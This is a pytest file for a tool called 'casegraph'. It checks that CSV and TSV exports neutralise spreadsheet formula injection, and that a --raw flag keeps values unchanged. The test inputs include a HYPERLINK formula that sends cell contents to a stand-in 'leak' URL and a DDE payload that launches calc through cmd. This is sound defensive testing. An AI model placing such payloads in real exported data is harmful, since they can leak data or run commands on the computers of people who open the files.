"""CSV and TSV for spreadsheets: a cell that would start a formula is neutralised unless --raw."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from rdflib import Literal, URIRef
from rdflib.namespace import XSD

from casegraph.query.sparql import Results
from casegraph.cli import cli
from casegraph.query.results import format_results, spreadsheet_cell
from conftest import SEED

SEED_TITLE = "Growing up Well in Nantes – Giving a Global Strategy a Local Focus Nantes, Fr"
LEAK = '=HYPERLINK("http://x?leak="&A1,"Click me")'
#: Titles a document can give its case. The parser reads a leading '-' as a list bullet, so no
#: title starts with one; the cell tests below cover it.
TITLES = (LEAK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)")
DANGER = ("=", "+", "-", "@", "\t", "\r")
TITLES_QUERY = ("PREFIX dcterms: <http://purl.org/dc/terms/> "
                "PREFIX cg: <https://w3id.org/casegraph/ontology#> "
                "SELECT ?title WHERE { ?case a cg:CaseExample ; dcterms:title ?title }")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    seed = SEED.read_text(encoding="utf-8")
    for number, title in enumerate(TITLES):
        text = seed.replace(SEED_TITLE, f"{title} Nantes, Fr")
        (folder / "cases").mkdir(exist_ok=True)
        (folder / "cases" / f"case-{number}.txt").write_text(text, encoding="utf-8")
    out = folder / "out"
    mp = pytest.MonkeyPatch()
    mp.setenv("SOURCE_DATE_EPOCH", "1700000000")
    result = CliRunner().invoke(cli, ["build", str(folder / "cases"), "--out", str(out)])
    mp.undo()
    assert result.exit_code == 0, result.output
    return out


def _invoke(*args: object) -> str:
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    """Every cell as a spreadsheet reads it: quotes around a field taken off."""
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _export_labels(built: Path, target: Path, *extra: str) -> list[str]:
    _invoke("export", "--out", built, "--format", "csv", "-o", target, *extra)
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        cells += _csv_cells((target / name).read_text(encoding="utf-8"))
    return cells


def test_export_csv_neutralises_formulas(built: Path, tmp_path: Path) -> None:
    cells = _export_labels(built, tmp_path / "tables")
    # A coordinate casegraph wrote (-1.55336) is a number in a spreadsheet, not a formula.
    assert not [cell for cell in cells if cell.startswith(DANGER)
                and not re.fullmatch(r"-\d+(?:\.\d+)?", cell)]
    for title in TITLES:
        assert f"'{title}" in cells


def test_export_csv_raw_keeps_cells_exactly(built: Path, tmp_path: Path) -> None:
    cells = _export_labels(built, tmp_path / "tables", "--raw")
    for title in TITLES:
        assert title in cells
    assert not [cell for cell in cells if cell.startswith("'")]


def test_query_csv_neutralises_formulas(built: Path) -> None:
    cells = _csv_cells(_invoke("query", "--sparql", TITLES_QUERY, "--out", built,
                               "--format", "csv"))
    assert cells[0] == "title"
    assert not [cell for cell in cells if cell.startswith(DANGER)]
    assert sorted(cells[1:]) == sorted(f"'{title}" for title in TITLES)


def test_query_tsv_neutralises_formulas(built: Path) -> None:
    text = _invoke("query", "--sparql", TITLES_QUERY, "--out", built, "--format", "tsv")
    # A spreadsheet takes the quotes of a Turtle literal as the field's quotes.
    cells = _csv_cells(text, delimiter="\t")
    assert cells[0] == "?title"
    assert not [cell for cell in cells if cell.startswith(DANGER)]
    assert len(cells) == 1 + len(TITLES)


def test_query_raw_and_json_keep_values_exactly(built: Path) -> None:
    raw = _csv_cells(_invoke("query", "--sparql", TITLES_QUERY, "--out", built,
                             "--format", "csv", "--raw"))
    assert sorted(raw[1:]) == sorted(TITLES)
    tsv = _invoke("query", "--sparql", TITLES_QUERY, "--out", built, "--format", "tsv", "--raw")
    assert '"=HYPERLINK(\\"http://x?leak=\\"&A1,\\"Click me\\")"@en' in tsv.splitlines()
    data = json.loads(_invoke("query", "--sparql", TITLES_QUERY, "--out", built,
                              "--format", "json"))
    values = [b["title"]["value"] for b in data["results"]["bindings"]]
    assert sorted(values) == sorted(TITLES)


@pytest.mark.parametrize("first", DANGER)
def test_every_formula_character_is_neutralised(first: str) -> None:
    assert spreadsheet_cell(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("text", ["", "Nantes", "'quoted", " =padded", "1-2", "a=b", "IC4"])
def test_other_cells_are_kept(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_negative_numbers_are_neutralised_too() -> None:
    """OWASP's rule, as documented: -3 reads as text in a spreadsheet unless --raw."""
    results = Results(("n", "where"), ((Literal(-3, datatype=XSD.integer),
                                        URIRef("https://example.org/a")),))
    assert format_results(results, "csv") == "n,where\r\n'-3,https://example.org/a\r\n"
    assert format_results(results, "csv", raw=True) == "n,where\r\n-3,https://example.org/a\r\n"
    assert format_results(results, "tsv").splitlines()[1].startswith("'\"-3\"^^")
    assert format_results(results, "tsv", raw=True).splitlines()[1].startswith('"-3"^^')
    assert json.loads(format_results(results, "json"))["results"]["bindings"][0]["n"][
        "value"] == "-3"
